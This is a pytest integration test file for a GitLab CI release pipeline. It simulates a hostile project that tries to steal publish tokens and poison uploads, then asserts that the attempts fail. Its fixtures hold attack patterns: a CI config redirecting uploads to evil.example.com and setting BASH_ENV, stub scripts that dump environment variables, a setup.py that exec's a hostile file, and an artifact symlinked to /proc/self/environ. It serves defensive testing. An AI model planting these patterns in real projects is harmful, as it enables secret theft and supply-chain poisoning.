# SPDX-License-Identifier: GPL-3.0-or-later
"""A project that is after the publish token, and after what is published.

Its code runs in builds and tests, as each project's does. What it may reach is what any job may:
its own variables. That its look can find something is shown by a variable without protection.
"""

from __future__ import annotations

import hashlib
import io
import re
import tempfile
import zipfile
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from lab import demo_release
from lab.checkout import Checkout
from lab.inventory import read_pythons
from lab.jobs import project_at
from lab.pipeline_tools import ensure_pipeline_tools
from lab.pipelines import ENDED, Job, Pipeline, find, follow
from lab.platforms import all_platforms
from lab.publishing import read_publishing
from lab.world import up
from standins.gitlab.client import LabGitLab, LabGitLabError, ProjectInfo
from tests.lab.site import Site, until
from tests.lab.test_release import listed, tokens, unpacked
from tests.release.projects import Project

pytestmark = pytest.mark.lab

CODE = Path(__file__).with_name("data") / "hostile.py"
LOOT = "/home/gitlab-runner/loot"
OPEN = "a-variable-for-every-job-7d1e"
PLACES = "/usr/local/bin /usr/local/lib/runnerhost /etc/profile.d /etc/cron.d"
PROGRAMS = (
    f"find {PLACES} -type f -print0 | sort -z | xargs -0 sha256sum;"
    rf" find {PLACES} -type l -printf '%p %l\n' | sort"
)
MAY_NOT = "You are not allowed to create this tag as it is protected."
# Nothing of it may reach an upload.
CONFIG = """
variables:
  TWINE_REPOSITORY_URL: https://evil.example.com/
  BASH_ENV: $CI_PROJECT_DIR/evil.sh
default:
  before_script:
    - env >/tmp/evil; echo evil
"""


def project_files(folder: Path) -> None:
    """A pure project whose build and tests are hostile, and which brings programs of its own."""
    made = Project(folder).pure("hostile_demo", "1.0.0")
    code = CODE.read_text(encoding="utf-8")
    for name in ("hostile.py", "tests/hostile.py"):
        (folder / name).write_text(code, encoding="utf-8")
    run = 'exec(open("hostile.py").read())'
    made.write("setup.py", f"{run}\nfrom setuptools import setup\n\nsetup()\n")
    made.write("MANIFEST.in", "include hostile.py\n")
    text = (folder / "tests/test_it.py").read_text(encoding="utf-8")
    (folder / "tests/test_it.py").write_text(f"import tests.hostile\n{text}", encoding="utf-8")
    made.write("tests/__init__.py", "")
    for name in ("local-ci.sh", "release.py", "runnerhost-release", "twine", "evil.sh"):
        made.write(name, "#!/bin/sh\nenv >/tmp/evil\necho evil\n")
        (folder / name).chmod(0o755)
    made.write("release.ini", "[index evil]\nupload-url = https://evil.example.com/\n")


@pytest.fixture(scope="module")
def gitlab(site: Site) -> Any:
    ensure_pipeline_tools()
    up(site.lab, [all_platforms()["jammy"]], publishing=True)
    run = site.playbook("site.yml")
    assert run.code == 0, run.output
    with site.gitlab() as client:
        yield client


@pytest.fixture(scope="module")
def project(site: Site, gitlab: LabGitLab) -> ProjectInfo:
    """The project, as its maintainer has set it up: by the same playbook as any."""
    project = project_at(gitlab, "demo/hostile")
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / "project"
        source.mkdir()
        project_files(source)
        Checkout(source).commit("Hostile")
        gitlab.push(project, source, "HEAD:refs/heads/main")
    body = {"key": "OPEN", "value": OPEN}
    gitlab.api("POST", f"/projects/{project.id}/variables", json=body)
    python = read_pythons(site.lab)["jammy"][-1]
    inputs = {"build_tags": ["jammy"], "pythons": [python], "wheels": "one_job",
              "test_command": "python -m unittest discover -s tests -t ."}  # fmt: skip
    variables = [{"key": "TWINE_PASSWORD", "environment": environment, "value": token}
                 for environment, token in tokens(site).items()]  # fmt: skip
    settings = {"protected_tags": [{"name": "v*"}], "variables": variables}
    for playbook, variable, entry in (
        ("project.yml", "gitlab_project_projects", settings),
        ("pipeline.yml", "release_pipeline_projects", {"inputs": inputs}),
    ):
        run = site.playbook(playbook, extra={variable: [{"project": "demo/hostile", **entry}]})
        assert run.code == 0, run.output
    return project


Change = Callable[[Path], object]


def commit(
    gitlab: LabGitLab, project: ProjectInfo, ref: str, change: Change, token: str | None = None
) -> str:
    """Pushes a commit that changes the default branch as a branch or tag; the commit."""
    with tempfile.TemporaryDirectory() as folder:
        checkout = Checkout(Path(folder) / "project")
        gitlab.git("clone", "--quiet", gitlab.address(project), str(checkout.folder))
        change(checkout.folder)
        checkout.commit("A change")
        if token is None:
            return gitlab.push(project, checkout.folder, f"HEAD:{ref}")
        with LabGitLab(gitlab.base_url, "", token, gitlab.ca_file) as other:
            return other.push(project, checkout.folder, f"HEAD:{ref}")


def release(number: str) -> Change:
    """Another version, with a configuration that would poison jobs that take it over."""

    def change(folder: Path) -> None:
        file = folder / "pyproject.toml"
        file.write_text(demo_release.with_version(file.read_text(), number))
        config = folder / ".gitlab-ci.yml"
        config.write_text(config.read_text() + CONFIG)

    return change


def watching(folder: Path) -> None:
    """Tests that look at all processes while others publish."""
    (folder / "tests/watch").write_text("")


def named(pipeline: Pipeline, name: str) -> Job:
    return next(job for job in pipeline.jobs() if job.name == name)


def test_a_hostile_project_gets_no_token_and_changes_no_release(
    site: Site, gitlab: LabGitLab, project: ProjectInfo
) -> None:
    before = site.sh(PROGRAMS)
    # Its pipelines alter each other's files: on one runner host all jobs have one user.
    path = f"/projects/{project.id}/pipelines"
    until(
        lambda: all(one["status"] in (*ENDED, "manual") for one in gitlab.api("GET", path)),
        240,
        "the first ones",
    )
    site.sh(f"rm -f {LOOT}/*")
    watcher = find(gitlab, project, "topic", commit(gitlab, project, "refs/heads/topic", watching))
    until(lambda: site.sh(f"ls {LOOT} | grep release-test || true"), 240, "the look at processes")
    pipeline = find(
        gitlab, project, "v1.0.1", commit(gitlab, project, "refs/tags/v1.0.1", release("1.0.1"))
    )
    try:
        jobs = follow(pipeline, "v1.0.1", 600)
    finally:
        site.sh("touch /home/gitlab-runner/enough")
    follow(watcher, "topic", 300)
    loot = site.sh(f"tail -n +1 {LOOT}/*")
    names = re.findall(r"==> .*/(release-[a-z]+)", loot)
    assert {"release-sdist", "release-wheels", "release-test"} <= set(names)
    assert loot.count("\nthe end\n") == len(names)
    # It sees what is for every job, in each of its jobs; so its look is a look.
    assert loot.count(f"OPEN={OPEN}") >= len(names)
    assert not [token for token in tokens(site).values() if token in loot]
    assert site.sh(PROGRAMS) == before
    for job in (*jobs, *watcher.jobs()):
        trace = pipeline.trace(job)
        assert not [token for token in tokens(site).values() if token in trace], job.name
        assert job.name != "release-publish" or "evil" not in trace
    check_published(site, pipeline, "1.0.1")
    # What it asked of GitLab with its job's token was refused.
    tags = {tag["name"] for tag in gitlab.api("GET", f"/projects/{project.id}/repository/tags")}
    assert tags == {"v1.0.1"}


def check_published(site: Site, pipeline: Pipeline, version: str) -> None:
    """The index has what the pipeline has checked, and nothing else of this version."""
    checked = dict(unpacked(pipeline.artifacts(named(pipeline, "release-check"))))
    sums = checked["dist/SHA256SUMS"].decode()
    wanted = {line.split()[1]: line.split()[0] for line in sums.splitlines()}
    found = {name: hashlib.sha256(data).hexdigest()
             for name, data in listed(site, "hostile-demo").items()
             if f"-{version}" in name}  # fmt: skip
    assert found == wanted
    assert len(found) == 2
    poisoned = [name for name, data in listed(site, "hostile-demo").items() if b"poison" in data]
    assert not [name for name in poisoned if name.endswith(".whl")]


def test_a_tag_by_a_person_without_the_right_to_it(gitlab: LabGitLab, project: ProjectInfo) -> None:
    body = {"name": "developer", "scopes": ["write_repository"], "access_level": 30,
            "expires_at": (date.today() + timedelta(days=2)).isoformat()}  # fmt: skip
    token = gitlab.api("POST", f"/projects/{project.id}/access_tokens", json=body)["token"]
    with pytest.raises(LabGitLabError, match=MAY_NOT):
        commit(gitlab, project, "refs/tags/v5.0.0", release("5.0.0"), token)
    tags = {tag["name"] for tag in gitlab.api("GET", f"/projects/{project.id}/repository/tags")}
    assert "v5.0.0" not in tags


def altered(archive: bytes, change: Callable[[dict[str, bytes]], object]) -> bytes:
    """An archive of artifacts with other contents; a value that begins with -> is a link."""
    with zipfile.ZipFile(io.BytesIO(archive)) as bundle:
        files = {name: bundle.read(name) for name in bundle.namelist() if name[-1] != "/"}
    change(files)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as bundle:
        for name, data in files.items():
            entry = zipfile.ZipInfo(name)
            link = data.startswith(b"-> ")
            entry.external_attr = (0o120777 if link else 0o100644) << 16
            bundle.writestr(entry, data.removeprefix(b"-> "))
    return made.getvalue()


def another_wheel(files: dict[str, bytes]) -> None:
    (name,) = (name for name in files if name.endswith(".whl"))
    files[name] += b"poison"


def one_file_more(files: dict[str, bytes]) -> None:
    files["dist/evil-1.0-py3-none-any.whl"] = b"poison"


def a_link_to_a_secret(files: dict[str, bytes]) -> None:
    files["dist/SHA256SUMS"] = b"-> /proc/self/environ"


def test_altered_artifacts_are_not_published(
    site: Site, gitlab: LabGitLab, project: ProjectInfo
) -> None:
    """As if someone had changed them where GitLab stores them, after all checks."""
    (runner,) = (one["id"] for one in read_publishing(site.lab)["runners"].values())
    site.sh("touch /home/gitlab-runner/enough")
    gitlab.pause(runner)
    sha = commit(gitlab, project, "refs/tags/v1.0.2", release("1.0.2"))
    pipeline = find(gitlab, project, "v1.0.2", sha)
    until(lambda: named(pipeline, "release-publish").status == "pending", 600, "the upload's turn")
    check = named(pipeline, "release-check")
    stored = Path(site.lab.state) / "gitlab/artifacts" / str(check.id) / "archive"
    right = stored.read_bytes()
    for change, words in (
        (another_wheel, "not the file that was checked: its SHA-256 differs"),
        (one_file_more, "not in SHA256SUMS"),
        (a_link_to_a_secret, "not a regular file"),
    ):
        stored.write_bytes(altered(right, change))
        upload = ended(gitlab, pipeline, runner)
        trace = pipeline.trace(upload)
        assert (upload.status, words in trace) == ("failed", True), trace
        assert not [name for name in listed(site, "hostile-demo") if "1.0.2" in name]
        path = f"/projects/{project.id}/jobs/{upload.id}/retry"
        gitlab.api("POST", path)
    stored.write_bytes(right)
    assert ended(gitlab, pipeline, runner).status == "success"
    check_published(site, pipeline, "1.0.2")


def ended(gitlab: LabGitLab, pipeline: Pipeline, runner: int) -> Job:
    """Lets the runner for uploads take one job, and returns it."""
    number = named(pipeline, "release-publish").id
    gitlab.pause(runner, False)
    begun = ("running", "success", "failed")
    until(lambda: named(pipeline, "release-publish").status in begun, 60, "the upload to begin")
    gitlab.pause(runner)
    until(lambda: gitlab.job(number).finished, 120, "the upload's end")
    job = named(pipeline, "release-publish")
    assert job.id == number
    return job
